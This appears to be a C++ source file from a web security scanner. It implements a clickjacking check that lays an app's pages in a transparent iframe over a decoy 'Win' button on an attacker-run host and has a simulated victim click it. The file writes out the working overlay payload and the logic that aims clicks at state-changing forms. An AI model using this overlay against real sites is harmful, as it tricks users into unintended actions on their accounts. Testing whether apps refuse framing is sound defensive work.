// clickjacking: shows the app's own page in a transparent frame over something to click, so that
// the victim's click lands on the app's button. Token and cookie are all in order: only framing
// can be refused (OWASP Clickjacking Defense Cheat Sheet).
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/attack/request_writer.h"
#include "core/attack/session.h"
#include "core/attack/tags.h"

namespace parapet::attack {
namespace {

constexpr int kRow = 30;  // pixels a control takes, core/browser/layout.h
constexpr std::size_t kMostRows = 6;

class Clickjacking final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        // A sibling's frames are of the same site: SameSite keeps no cookie back.
        if (evil == nullptr) evil = sibling_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        sign_in(target, target.surface().attacker);
        std::vector<Framed> framed;
        for (Endpoint const* page : pages(target)) {
            std::string const path = write_request(*page, samples(*page)).target;
            http::Response const own = target.send({.target = path});
            framed.push_back({app_origin(target) + path, rows_of(target, own.body)});
            // The router may take other spellings for the same, and a rule for the path not.
            std::string const other =
                address_otherwise(target, *page) + '?' + random_word(target, 4);
            std::vector<int> rows = rows_of(
                target, target.send({.target = other.substr(app_origin(target).size())}).body);
            if (!rows.empty()) framed.push_back({other, {rows.front()}});
        }
        if (!victim_signs_in(target)) return;
        for (Framed const& each : framed)
            for (int row : each.rows) lay_over(target, *evil, each.address, row * kRow);
        target.note("The app's page lay transparent over a button of " + evil->name() + ".");
    }

    struct Framed {
        std::string address;
        std::vector<int> rows;  // where a click might do something, the best first
    };

    static std::vector<Endpoint const*> pages(Target const& target) {
        auto pages = endpoints_option(target, option::kForm, "");
        if (!pages.empty()) return pages;
        for (Endpoint const& each : target.surface().endpoints)
            if (each.method == "GET" && each.signed_in) pages.push_back(&each);
        return pages;
    }

    // The attacker has the same page before him: the buttons of the forms that lead to the
    // endpoints, and then all others.
    static std::vector<int> rows_of(Target const& target, std::string const& html) {
        std::vector<int> best, others;
        bool is_wanted = false;
        int row = 0;
        for (Tag const& tag : tags_in(html)) {
            std::string const type = tag.attribute("type").value_or("");
            if (tag.name == "form") is_wanted = leads_to_endpoint(target, tag);
            if (tag.name == "/form") is_wanted = false;
            if (!takes_a_row(tag) || type == "hidden") continue;
            bool const is_button = tag.name == "button" || type == "submit" || type == "button" ||
                                   type == "image" || tag.attribute("onclick");
            if (is_button) (is_wanted ? best : others).push_back(row);
            ++row;
        }
        best.insert(best.end(), others.begin(), others.end());
        best.resize(std::min(best.size(), kMostRows));
        return best;
    }

    static bool leads_to_endpoint(Target const& target, Tag const& form) {
        std::string const action = form.attribute("action").value_or("");
        auto const endpoints = unsafe_endpoints(target);
        return std::any_of(endpoints.begin(), endpoints.end(), [&](Endpoint const* each) {
            return action.substr(0, action.find('?')).ends_with(each->path);
        });
    }

    static bool takes_a_row(Tag const& tag) {
        for (std::string_view name :
             {"a", "button", "input", "select", "textarea", "img", "iframe"})
            if (tag.name == name) return true;
        return tag.attribute("onclick").has_value();
    }

    static void lay_over(Target& target, OwnHost& evil, std::string const& address, int top) {
        Lure lure(target, evil);
        std::string const at = std::to_string(top);
        target.victim()->opens(
            lure.place("<button style=\"position:absolute;left:0px;top:" + at +
                       "px\">Win</button><iframe src=" + in_quotes(address) +
                       " style=\"position:absolute;left:0px;top:0px;width:800px;" +
                       "height:2000px;opacity:0;z-index:2\"></iframe>"));
        (void)target.victim()->clicks("Win");
        target.victim()->turns_away();
    }
};

}  // namespace

std::unique_ptr<Agent> make_clickjacking() { return std::make_unique<Clickjacking>(); }

}  // namespace parapet::attack
